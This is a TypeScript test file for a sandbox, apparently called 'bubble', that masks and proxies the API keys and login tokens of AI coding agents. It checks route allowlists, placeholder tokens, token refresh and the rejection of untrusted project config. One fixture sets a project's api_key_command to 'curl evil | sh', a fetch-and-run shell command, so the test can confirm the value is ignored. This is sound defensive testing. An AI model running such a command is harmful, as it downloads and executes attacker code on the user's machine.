import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { matchRoute, modelApi } from '../../src/creds/apis.ts';
import { credentialPlan, maskedClaudeLogin, type CredentialInput } from '../../src/creds/plan.ts';
import {
  PLACEHOLDER_ACCESS_JWT,
  configuredChatgptBase,
  jwtExpiry,
  maskedCodexLogin,
} from '../../src/creds/codex-login.ts';
import { secretReader } from '../../src/creds/secrets.ts';
import { mergeConfig } from '../../src/config/merge.ts';

const base: CredentialInput = {
  profile: 'claude',
  command: 'claude',
  home: '/home/u',
  env: {},
  readText: () => undefined,
  proxyPort: 3128,
  pass: false,
  commands: {},
};

test('routes: the Messages API passes; account, key-minting and unknown paths do not', () => {
  const api = modelApi('anthropic');
  assert.ok(matchRoute(api, 'POST', '/v1/messages'));
  assert.ok(matchRoute(api, 'POST', '/v1/messages/count_tokens'));
  assert.ok(matchRoute(api, 'GET', '/v1/models'));
  assert.equal(matchRoute(api, 'HEAD', '/api/hello')?.credential, false);
  for (const [m, p] of [
    ['POST', '/api/oauth/claude_cli/create_api_key'],
    ['GET', '/api/oauth/profile'],
    ['GET', '/v1/messages'],
    ['POST', '/v1/messages/batches'],
    ['POST', '/v1/organizations/x/api_keys'],
    ['POST', '/v1/messages/'],
  ] as const)
    assert.equal(matchRoute(api, m, p), undefined, `${m} ${p}`);
  assert.ok(matchRoute(modelApi('openai'), 'POST', '/responses'));
  assert.ok(
    matchRoute(modelApi('gemini'), 'POST', '/v1beta/models/gemini-2.5-pro:streamGenerateContent'),
  );
  assert.equal(matchRoute(modelApi('gemini'), 'POST', '/v1beta/files'), undefined);
});

test('an API key in the environment: withheld, a placeholder and bubble base URL inside', () => {
  const plan = credentialPlan({ ...base, env: { ANTHROPIC_API_KEY: 'sk-real' } });
  assert.deepEqual(
    plan.injected.map((i) => [i.api, i.upstream, i.insideBase, i.source]),
    [
      [
        'anthropic',
        'https://api.anthropic.com',
        'http://127.0.0.1:3128/anthropic',
        { kind: 'env', name: 'ANTHROPIC_API_KEY', carrier: 'x-api-key' },
      ],
    ],
  );
  assert.match(plan.env['ANTHROPIC_API_KEY']!, /placeholder/);
  assert.ok(plan.withheld.includes('ANTHROPIC_AUTH_TOKEN'));
  assert.ok(plan.withheld.includes('CLAUDE_CODE_OAUTH_TOKEN'));
  assert.ok(!JSON.stringify(plan).includes('sk-real'), 'the plan never holds the secret');
});

test("the host's base URL becomes the upstream, its path kept inside", () => {
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    env: { OPENAI_API_KEY: 'k', OPENAI_BASE_URL: 'http://127.0.0.1:8080/v1/' },
  });
  assert.equal(plan.injected[0]!.upstream, 'http://127.0.0.1:8080/v1');
  assert.equal(plan.env['OPENAI_BASE_URL'], 'http://127.0.0.1:3128/openai/v1');
  const bad = credentialPlan({
    ...base,
    env: { ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: 'http://user:pw@gw/' },
  });
  assert.equal(bad.injected[0]!.upstream, 'https://api.anthropic.com');
  assert.equal(bad.notes.length, 1);
});

test("Claude's login: masked with placeholders, non-secret fields kept, other tokens dropped", () => {
  const text = JSON.stringify({
    claudeAiOauth: {
      accessToken: 'real-a',
      refreshToken: 'real-r',
      expiresAt: 1,
      scopes: ['user:inference'],
      subscriptionType: 'max',
    },
    mcpOAuth: { s: { accessToken: 'real-m' } },
  });
  const masked = maskedClaudeLogin(text)!;
  assert.ok(!/"real-/.test(masked), masked);
  assert.match(masked, /"subscriptionType":"max"/);
  assert.equal(maskedClaudeLogin('not json'), undefined);
  const plan = credentialPlan({ ...base, readText: () => text });
  assert.deepEqual(plan.injected[0]!.source, {
    kind: 'claude-login',
    path: '/home/u/.claude/.credentials.json',
  });
  assert.equal(plan.masked[0]!.content, masked);
});

test('no proxy (--net host/none) or --pass-credentials: nothing injected, the reason noted', () => {
  const env = { ANTHROPIC_API_KEY: 'k' };
  const host = credentialPlan({ ...base, env, proxyPort: undefined });
  assert.equal(host.injected.length, 0);
  assert.match(host.notes[0]!, /pass into the sandbox/);
  const pass = credentialPlan({ ...base, env, pass: true });
  assert.deepEqual(pass, {
    injected: [],
    env: {},
    envWhy: {},
    withheld: [],
    argv: [],
    masked: [],
    notes: [],
  });
  assert.equal(credentialPlan({ ...base, env, profile: 'generic' }).injected.length, 0);
});

test('config: a project may not pass credentials in, and api_key_command comes from your own file only', () => {
  const cli = {};
  const project = {
    path: '/p/.bubble.toml',
    trusted: true,
    config: { pass_credentials: true, api_key_command: { anthropic: 'curl evil | sh' } },
  };
  const trusted = mergeConfig({ cli, commandProfile: 'claude', project });
  assert.equal(trusted.options.api_key_command, undefined);
  assert.ok(trusted.ignored.some((i) => i.includes('api_key_command')));
  const untrusted = mergeConfig({
    cli,
    commandProfile: 'claude',
    project: { ...project, trusted: false },
  });
  assert.equal(untrusted.options.pass_credentials, undefined);
  assert.ok(untrusted.ignored.some((i) => i.includes('pass_credentials')));
  const user = mergeConfig({
    cli,
    commandProfile: 'claude',
    user: { path: '/u/config.toml', config: { api_key_command: { anthropic: 'pass show a' } } },
  });
  assert.deepEqual(user.options.api_key_command?.value, { anthropic: 'pass show a' });
});

test("Codex's auth.json: its API key added outside", () => {
  const path = '/home/u/.codex/auth.json';
  const apiKey = JSON.stringify({ OPENAI_API_KEY: 'sk-REAL-codex', tokens: null });
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    command: 'codex',
    readText: (p) => (p === path ? apiKey : undefined),
  });
  assert.deepEqual(plan.injected[0]?.source, { kind: 'codex-login', path });
  assert.deepEqual(plan.argv, ['-c', 'openai_base_url="http://127.0.0.1:3128/openai/v1"']);
  assert.equal(plan.masked[0]?.path, path);
  assert.ok(!plan.masked[0].content.includes('sk-REAL-codex'));
  assert.match(plan.masked[0].content, new RegExp(modelApi('openai').placeholder));
  assert.equal(maskedCodexLogin('{"OPENAI_API_KEY":null}', 'x'), undefined);
});

const b64 = (o: unknown): string => Buffer.from(JSON.stringify(o)).toString('base64url');
const jwt = (claims: unknown, sig = 'REAL-sig'): string =>
  `${b64({ alg: 'RS256' })}.${b64(claims)}.${sig}`;

function chatgptLogin(accessExpiry: number, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({
    OPENAI_API_KEY: null,
    tokens: {
      id_token: jwt({ email: 'u@example.com', 'https://api.openai.com/auth': { x: 1 } }),
      access_token: jwt({ exp: Math.floor(accessExpiry / 1000), sub: 'REAL-access' }),
      refresh_token: 'rt-REAL',
      account_id: 'acct-1',
    },
    last_refresh: '2026-01-01T00:00:00Z',
    ...extra,
  });
}

test("Codex's ChatGPT login: proxied through bubble (both ChatGPT base URLs), placeholder tokens inside", () => {
  const path = '/home/u/.codex/auth.json';
  const text = chatgptLogin(Date.now() + 3_600_000);
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    command: 'codex',
    // An API key in the environment too: Codex uses the login, so its base URLs win.
    env: { OPENAI_API_KEY: 'sk-env' },
    readText: (p) => (p === path ? text : undefined),
  });
  assert.deepEqual(
    plan.injected
      .filter((i) => i.api !== 'openai')
      .map((i) => [i.api, i.upstream, i.insideBase, i.source]),
    [
      [
        'chatgpt',
        'https://chatgpt.com/backend-api',
        'http://127.0.0.1:3128/chatgpt/backend-api',
        { kind: 'codex-chatgpt', path },
      ],
      [
        'chatgpt-codex',
        'https://chatgpt.com/backend-api/codex',
        'http://127.0.0.1:3128/chatgpt-codex',
        { kind: 'codex-chatgpt', path },
      ],
    ],
  );
  // No /backend-api in the model URL: Codex would ask for workspace routing, https only.
  assert.deepEqual(plan.argv, [
    '-c',
    'chatgpt_base_url="http://127.0.0.1:3128/chatgpt/backend-api/"',
    '-c',
    'openai_base_url="http://127.0.0.1:3128/chatgpt-codex"',
  ]);
  const masked = JSON.parse(plan.masked[0]!.content) as {
    tokens: Record<string, string>;
    last_refresh: string;
  };
  assert.ok(!plan.masked[0]!.content.includes('REAL'), plan.masked[0]!.content);
  assert.equal(masked.tokens['access_token'], PLACEHOLDER_ACCESS_JWT);
  assert.ok(jwtExpiry(PLACEHOLDER_ACCESS_JWT)! > Date.UTC(2090, 0, 1), 'never refreshed inside');
  const [, claims, sig] = masked.tokens['id_token']!.split('.');
  assert.deepEqual(JSON.parse(Buffer.from(claims!, 'base64url').toString()), {
    email: 'u@example.com',
    'https://api.openai.com/auth': { x: 1 },
  });
  assert.match(sig!, /placeholder/);
  assert.equal(masked.tokens['account_id'], 'acct-1');
  assert.equal(masked.last_refresh, '2026-01-01T00:00:00Z');
  assert.ok(!JSON.stringify(plan).includes('REAL'), 'the plan never holds the secret');
  // An API-key login is not a ChatGPT login, whatever tokens it keeps.
  const apiMode = JSON.stringify({ ...JSON.parse(text), auth_mode: 'apikey', OPENAI_API_KEY: 'k' });
  const keyPlan = credentialPlan({
    ...base,
    profile: 'codex',
    command: 'codex',
    readText: (p) => (p === path ? apiMode : undefined),
  });
  assert.deepEqual(
    keyPlan.injected.map((i) => i.api),
    ['openai'],
  );
  assert.deepEqual(keyPlan.argv, ['-c', 'openai_base_url="http://127.0.0.1:3128/openai/v1"']);
  assert.ok(!keyPlan.masked[0]!.content.includes('REAL'));
});

test("Codex's ChatGPT login: the user's own chatgpt_base_url in config.toml is the upstream", () => {
  const files: Record<string, string> = {
    '/home/u/.codex/auth.json': chatgptLogin(Date.now() + 3_600_000),
    '/home/u/.codex/config.toml': 'chatgpt_base_url = "http://127.0.0.1:9/backend-api/"\n',
  };
  const plan = credentialPlan({
    ...base,
    profile: 'codex',
    command: 'codex',
    readText: (p) => files[p],
  });
  assert.deepEqual(
    plan.injected.map((i) => i.upstream),
    ['http://127.0.0.1:9/backend-api', 'http://127.0.0.1:9/backend-api/codex'],
  );
});

test('ChatGPT routes: the model, its list, usage and start-up reads pass; connectors, cloud tasks and the rest of ChatGPT do not', () => {
  const api = modelApi('chatgpt');
  const model = modelApi('chatgpt-codex');
  for (const [a, m, p] of [
    [model, 'POST', '/responses'],
    [model, 'POST', '/responses/compact'],
    [model, 'GET', '/models'],
    [api, 'GET', '/wham/usage'],
    [api, 'GET', '/wham/accounts/check'],
    [api, 'GET', '/ps/plugins/installed'],
    [api, 'POST', '/codex/analytics-events/events'],
  ] as const)
    assert.ok(matchRoute(a, m, p), `${a.name} ${m} ${p}`);
  for (const [a, m, p] of [
    [api, 'POST', '/ps/mcp'],
    [api, 'GET', '/wham/tasks/list'],
    [api, 'POST', '/wham/tasks'],
    [api, 'GET', '/conversations'],
    [api, 'POST', '/wham/rate-limit-reset-credits/consume'],
    [api, 'GET', '/me'],
    [api, 'POST', '/codex/responses'],
    [model, 'GET', '/responses'],
    [model, 'POST', '/responses/../../conversations'],
  ] as const)
    assert.equal(matchRoute(a, m, p), undefined, `${a.name} ${m} ${p}`);
});

function tempLogin(t: TestContext, text: string): string {
  const dir = fs.mkdtempSync(join(tmpdir(), 'bubble-creds-'));
  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
  const path = join(dir, 'auth.json');
  fs.writeFileSync(path, text, { mode: 0o644 });
  return path;
}

test("Codex's ChatGPT login: a fresh token is added as it is; an expired one is refreshed on the host and written back as Codex would", async (t) => {
  const now = Date.now();
  const fresh = chatgptLogin(now + 3_600_000);
  const freshPath = tempLogin(t, fresh);
  const asked: string[] = [];
  const fetcher = ((_url: string, init: RequestInit) => {
    asked.push(init.body as string);
    return Promise.resolve(
      new Response(
        JSON.stringify({
          access_token: 'NEW-access',
          refresh_token: 'NEW-refresh',
          id_token: 'NEW-id',
        }),
        { status: 200, headers: { 'content-type': 'application/json' } },
      ),
    );
  }) as typeof fetch;
  const read = secretReader({ env: {}, fetch: fetcher, codexTokenUrl: 'http://stand-in/token' });
  const real = (JSON.parse(fresh) as { tokens: { access_token: string } }).tokens.access_token;
  assert.deepEqual(await read({ kind: 'codex-chatgpt', path: freshPath }), {
    value: real,
    carrier: 'bearer',
  });
  assert.equal(asked.length, 0);

  const expiredPath = tempLogin(t, chatgptLogin(now - 60_000, { extra: 'kept' }));
  const [a, b] = await Promise.all([
    read({ kind: 'codex-chatgpt', path: expiredPath }),
    read({ kind: 'codex-chatgpt', path: expiredPath }),
  ]);
  assert.equal(a.value, 'NEW-access');
  assert.equal(b.value, 'NEW-access');
  assert.equal(asked.length, 1, 'one refresh for two requests');
  assert.deepEqual(JSON.parse(asked[0]!), {
    client_id: 'app_EMoamEEZ73f0CkXaXp7hrann',
    grant_type: 'refresh_token',
    refresh_token: 'rt-REAL',
  });
  const after = JSON.parse(fs.readFileSync(expiredPath, 'utf8')) as {
    tokens: Record<string, string>;
    last_refresh: string;
    extra: string;
  };
  assert.deepEqual(after.tokens, {
    id_token: 'NEW-id',
    access_token: 'NEW-access',
    refresh_token: 'NEW-refresh',
    account_id: 'acct-1',
  });
  assert.equal(after.extra, 'kept');
  assert.ok(Date.parse(after.last_refresh) >= now);
  assert.equal(fs.statSync(expiredPath).mode & 0o777, 0o600);
});

test("Codex's ChatGPT login: a refused refresh is one line naming the file, unless the login was refreshed meanwhile", async (t) => {
  const path = tempLogin(t, chatgptLogin(Date.now() - 60_000));
  const refused = (() =>
    Promise.resolve(
      new Response('{"error":{"code":"refresh_token_reused"}}', { status: 401 }),
    )) as unknown as typeof fetch;
  const read = secretReader({ env: {}, fetch: refused, codexTokenUrl: 'http://stand-in/token' });
  await assert.rejects(read({ kind: 'codex-chatgpt', path }), (e: Error) => {
    assert.equal(e.name, 'CredentialError');
    assert.ok(!e.message.includes('\n'));
    assert.match(
      e.message,
      /ChatGPT login in .*auth\.json expired and bubble could not refresh it \(the token endpoint answered 401\): log in with codex outside/,
    );
    return true;
  });
  // Codex outside refreshed it while bubble was asking: its new token is used.
  const meanwhile = chatgptLogin(Date.now() + 3_600_000);
  const racing = (() => {
    fs.writeFileSync(path, meanwhile);
    return Promise.resolve(new Response('{}', { status: 401 }));
  }) as unknown as typeof fetch;
  const read2 = secretReader({ env: {}, fetch: racing, codexTokenUrl: 'http://stand-in/token' });
  const got = await read2({ kind: 'codex-chatgpt', path });
  assert.equal(
    got.value,
    (JSON.parse(meanwhile) as { tokens: { access_token: string } }).tokens.access_token,
  );
  fs.rmSync(path);
  await assert.rejects(read2({ kind: 'codex-chatgpt', path }), /no Codex login at .*auth\.json/);
});

test("chatgpt_base_url from Codex's config.toml: the top-level key only, as TOML spells strings", () => {
  const base = 'https://chatgpt.example.test/backend-api';
  assert.equal(configuredChatgptBase(`chatgpt_base_url = "${base}"\n`), base);
  assert.equal(configuredChatgptBase(`model = "o3"\nchatgpt_base_url = '${base}' # ours\n`), base);
  assert.equal(configuredChatgptBase(`"chatgpt_base_url" = "${base}"`), base);
  assert.equal(configuredChatgptBase('chatgpt_base_url = "a\\u0062c"'), 'abc');
  // In a table it is another setting, not the top-level one.
  assert.equal(configuredChatgptBase(`[profiles.x]\nchatgpt_base_url = "${base}"`), undefined);
  assert.equal(configuredChatgptBase('chatgpt_base_url = ""'), undefined);
  assert.equal(configuredChatgptBase('chatgpt_base_url = 3'), undefined);
  assert.equal(configuredChatgptBase(undefined), undefined);
});
